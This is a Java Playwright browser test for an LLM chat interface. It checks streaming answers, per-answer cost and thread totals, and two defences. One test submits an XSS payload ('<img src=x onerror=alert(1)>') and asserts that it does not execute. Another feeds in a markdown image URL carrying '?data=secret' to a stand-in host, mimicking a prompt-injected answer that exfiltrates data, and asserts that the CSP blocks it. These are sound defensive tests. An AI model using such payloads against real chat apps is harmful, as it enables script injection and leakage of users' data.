package dev.tokentally.chat.ui;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import dev.tokentally.base.Money;
import dev.tokentally.base.ui.MoneyText;
import dev.tokentally.models.ProviderKind;
import dev.tokentally.models.ProviderTypes;
import dev.tokentally.testsupport.BrowserTest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.util.ReflectionTestUtils;

/** A member's first chat, in a real headless Chromium: the demo answer streams in, then its cost and the thread's total. */
class ChatBrowserTest extends BrowserTest {

    @Autowired
    JdbcClient jdbc;
    @Autowired
    ProviderTypes providerTypes;

    @BeforeEach
    void streamAtAReadablePace() {
        // Other tests answer instantly; here the demo streams at a pace a person (and the test) can watch.
        ReflectionTestUtils.setField(providerTypes.of(ProviderKind.DEMO), "demoPace", Duration.ofMillis(25));
    }

    @AfterEach
    void answerInstantlyAgain() {
        ReflectionTestUtils.setField(providerTypes.of(ProviderKind.DEMO), "demoPace", Duration.ZERO);
    }

    @Test
    void at_laptop_width_the_thread_list_keeps_its_width_beside_an_open_thread() {
        page.setViewportSize(1366, 768);
        signIn("alice@acme.test", "demo");
        page.waitForURL(Pattern.compile(".*/$|.*/dashboard$|.*/chat$"));
        page.navigate("http://localhost:" + port + "/chat");
        page.locator("#new-thread").click();
        page.waitForURL(Pattern.compile(".*/chat/\\d+$"));
        Locator input = page.locator("#chat-input textarea");
        input.fill("Which of our models is the cheapest for summarising long meeting notes?");
        input.press("Enter");
        assertThat(page.locator("[data-role=assistant] .tt-answer-cost")).isVisible();

        // 20rem: the list used to shrink beside the thread until titles showed ~12 characters.
        assertThat(page.locator("#thread-list").boundingBox().width).isGreaterThanOrEqualTo(315);
    }

    @Test
    void alice_asks_the_demo_model_sees_the_answer_stream_then_its_cost_and_the_thread_total() {
        AtomicBoolean scriptRan = new AtomicBoolean();
        page.onDialog(dialog -> {
            scriptRan.set(true);
            dialog.dismiss();
        });
        signIn("alice@acme.test", "demo");
        page.waitForURL(Pattern.compile(".*/$|.*/dashboard$|.*/chat$"));
        page.navigate("http://localhost:" + port + "/chat");

        page.locator("#new-thread").click();
        page.waitForURL(Pattern.compile(".*/chat/\\d+$"));
        assertThat(page.locator("#thread-totals")).hasText("0 messages · 0 in · 0 out · EUR 0.00");

        Locator input = page.locator("#chat-input textarea");
        input.fill("Is <img src=x onerror=alert(1)> safe here?");
        input.press("Shift+Enter");
        input.pressSequentially("Second line");
        input.press("Enter");

        Locator answer = page.locator("[data-role=assistant]");
        assertThat(page.locator("#chat-stop")).isVisible();
        assertThat(answer).containsText("Demo reply");
        assertThat(answer.locator(".tt-answer-cost")).not().isVisible();
        page.screenshot(new Page.ScreenshotOptions().setPath(Path.of("target/screenshots/chat-streaming.png")));

        Locator cost = answer.locator(".tt-answer-cost");
        assertThat(cost).isVisible();
        assertThat(page.locator("#chat-stop")).not().isVisible();
        BigDecimal billed = jdbc.sql("select billed_cost from usage_event where source = 'CHAT'").query(BigDecimal.class).single();
        String shown = MoneyText.format(new Money(billed, "EUR"));
        assertThat(cost).hasText(shown);
        assertThat(answer).containsText("Ask an admin to enable a real provider");
        assertThat(page.locator("#thread-totals")).containsText("2 messages");
        assertThat(page.locator("#thread-totals")).containsText(shown);
        assertThat(jdbc.sql("select content from chat_message where role = 'USER'").query(String.class).single())
                .isEqualTo("Is <img src=x onerror=alert(1)> safe here?\nSecond line");
        assertThat(page.locator("[data-role=user] [onerror]")).hasCount(0);
        assertThat(page.locator("#chat-input")).isEnabled();
        page.screenshot(new Page.ScreenshotOptions().setPath(Path.of("target/screenshots/chat.png")));

        cost.click();
        assertThat(page.locator("#charge-billed")).containsText(shown);
        page.screenshot(new Page.ScreenshotOptions().setPath(Path.of("target/screenshots/chat-charge.png")));
        assertThat(scriptRan.get()).as("no script from the message ran").isFalse();
    }

    @Test
    void a_markdown_image_of_another_host_in_an_answer_is_not_loaded() throws Exception {
        AtomicInteger requests = new AtomicInteger();
        HttpServer elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", exchange -> {
            requests.incrementAndGet();
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        elsewhere.start();
        try {
            signIn("alice@acme.test", "demo");
            page.waitForURL(Pattern.compile(".*/$|.*/dashboard$|.*/chat$"));
            var chat = page.navigate("http://localhost:" + port + "/chat");
            assertThat(chat.headers().get("content-security-policy")).contains("img-src 'self' data:");
            page.locator("#new-thread").click();
            page.waitForURL(Pattern.compile(".*/chat/\\d+$"));

            // The demo model quotes the question, so its answer carries the image as an injected answer would.
            String image = "![chart](http://127.0.0.1:" + elsewhere.getAddress().getPort() + "/leak.png?data=secret)";
            page.locator("#chat-input textarea").fill(image);
            page.locator("#chat-input textarea").press("Enter");
            Locator answer = page.locator("[data-role=assistant]");
            assertThat(answer.locator(".tt-answer-cost")).isVisible();
            Locator images = answer.locator("img[src*='leak.png']");
            assertThat(images).hasCount(1);
            page.waitForCondition(() -> (Boolean) images.evaluate("image => image.complete"));

            assertThat(requests.get()).as("requests that reached the other host").isZero();
            assertThat(cspViolations).isNotEmpty().allSatisfy(violation -> assertThat(violation).contains("img-src"));
            cspViolations.clear();
        } finally {
            elsewhere.stop(0);
        }
    }
}
